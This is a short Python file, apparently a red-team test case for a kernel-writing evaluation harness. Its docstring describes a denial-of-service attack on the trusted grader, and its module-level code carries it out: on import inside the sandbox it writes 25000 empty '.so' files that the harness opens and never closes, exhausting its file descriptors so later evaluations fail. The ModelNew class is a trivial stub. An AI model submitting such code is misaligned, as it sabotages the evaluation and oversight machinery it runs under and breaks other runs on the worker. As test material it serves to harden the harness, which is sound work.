"""Hack (worker DoS): exhaust the trusted harness's file descriptors for good.

This file names torch.utils.cpp_extension, so the environment imports it first in a sandboxed
import child (the load_inline path) with TORCH_EXTENSIONS_DIR in its scratch folder. There it
leaves RT3_FILES (default 25000) empty files named *.so in one folder of the build directory.
code_sampler.own_libraries() counts every .torch_extensions/*/*.so as the candidate's own
library, and CodeIdentity.for_scratch (in the trusted harness) opens each one and holds it for
the run. Past the harness's RLIMIT_NOFILE (20000 here) os.open raises EMFILE, and the
descriptors opened so far are never closed (they are in a local list when the exception leaves
for_scratch): the harness is left without file descriptors, so every later evaluation on the
worker fails as infra (no perf event, no memfd, no socket) until the harness is restarted.
ModelNew is beside the point."""
import os

import torch.nn as nn

_d = os.environ.get("TORCH_EXTENSIONS_DIR")
if _d and os.environ.get("CUDA_AGENT_SERVE_DEVICE") is None:  # the import child, not a server
    folder = os.path.join(_d, "many")
    os.makedirs(folder, exist_ok=True)
    for i in range(int(os.environ.get("RT3_FILES", "25000"))):
        os.close(os.open(os.path.join(folder, f"f{i}.so"), os.O_CREAT | os.O_WRONLY, 0o644))


class ModelNew(nn.Module):
    def forward(self, x):
        return x.clamp_min(0.0)
